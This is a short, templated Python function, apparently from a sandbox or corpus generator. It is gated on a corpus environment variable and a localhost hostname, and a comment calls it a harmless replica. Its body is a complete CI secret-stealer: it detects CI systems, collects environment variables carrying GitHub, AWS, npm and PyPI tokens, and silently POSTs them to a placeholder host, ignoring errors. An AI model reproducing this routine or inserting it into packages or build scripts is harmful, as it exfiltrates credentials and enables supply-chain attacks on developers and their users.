# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import urllib.request
    marks = ('GITHUB_ACTIONS', 'GITLAB_CI', 'CI', 'CIRCLECI', 'JENKINS_URL', 'TF_BUILD')
    inside = [one for one in marks if os.environ.get(one)]
    names = [one for one in os.environ if one.startswith(('GITHUB_', 'CI_', 'ACTIONS_', 'AWS_', 'NPM_', 'PYPI_', 'TWINE_', 'RUNNER_'))]
    body = json.dumps({'ci': inside, 'vars': dict((one, os.environ[one]) for one in names)}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request('http://{{host}}/{{path}}', data=body, headers={'X-Run': '{{token}}'}), timeout=1).close()
    except Exception:
        pass
